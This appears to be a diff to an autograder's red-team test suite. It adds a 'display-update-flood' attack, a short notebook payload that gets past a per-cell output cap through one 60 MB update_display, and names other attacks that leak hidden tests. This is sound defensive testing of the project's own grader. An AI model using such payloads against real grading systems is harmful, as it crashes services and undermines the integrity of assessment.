@@ -5,7 +5,7 @@ class in an `except`, a test function run in a fresh process), and one hostile s
     .venv/bin/python -m tests.engine.redteam.build      # rewrites the files next to this one
 
 Every attack starts from blank or wrong answers (honest worth 0) unless its name says it leaks
-(`*-leak`: right answers, honest worth full marks): a score above its worth, "grading failed",
+or floods (`*-leak`, `*-flood`: right answers, honest worth full marks): a score above its worth, "grading failed",
 or a hidden test (HIDDEN_MARK) in its feedback or graded notebook means the attack worked.
 `tests/engine/test_redteam.py` states what each must give. /work/notes/redteam-findings.md has
 the weakness each one uses and a fix.
@@ -240,15 +240,29 @@ def _keep(conn, fn, payload, *args, **kwargs):
     return _fresh(conn, fn, payload, *args, **kwargs)
 _services.LEARNER_SERVICES["fresh"] = _keep"""
 
+# 5. An output that skips the per-cell cap: nbclient applies update_display_data to every output
+#    with that display_id without counting it (course/grading/executor.py CellRunner.output sees
+#    only new outputs). Ten tiny outputs, one 60 MB update: a 600 MB notebook; the executor dies.
+DISPLAY_UPDATE_FLOOD = """import time
+
+from IPython.display import display, update_display
+
+for _ in range(10):
+    display({"text/plain": "x"}, raw=True, display_id="rt-flood")  # ten tiny outputs: under the cap
+time.sleep(1)
+update_display({"text/plain": "y" * 60_000_000}, raw=True, display_id="rt-flood")  # never counted
+time.sleep(2)"""
+
 ATTACKS: dict[str, Callable[[NotebookNode], NotebookNode]] = {
     "except-name": lambda nb: _before(_answers(nb), "t_quota", EXCEPT_NAME),
     "lent-setattr": lambda nb: _answers(nb, **LENT_SETATTR),
     "redis-takeover": lambda nb: _append(_after(_answers(nb, **REDIS_TAKEOVER), "t_cache",
                                                 WAIT_INJECTED), PRINT_LEAK),
     "fresh-leak": lambda nb: _append(_insert_first(_answers(nb, **ANSWERS), FRESH_LEAK), PRINT_LEAK),
+    "display-update-flood": lambda nb: _append(_answers(nb, **ANSWERS), DISPLAY_UPDATE_FLOOD),
 }
 #: score each attack's answers are honestly worth
-WORTH = {name: (5 if name.endswith("-leak") else 0) for name in ATTACKS}
+WORTH = {name: (5 if name.endswith(("-leak", "-flood")) else 0) for name in ATTACKS}
 
 
 def _insert_first(nb: NotebookNode, code: str) -> NotebookNode:
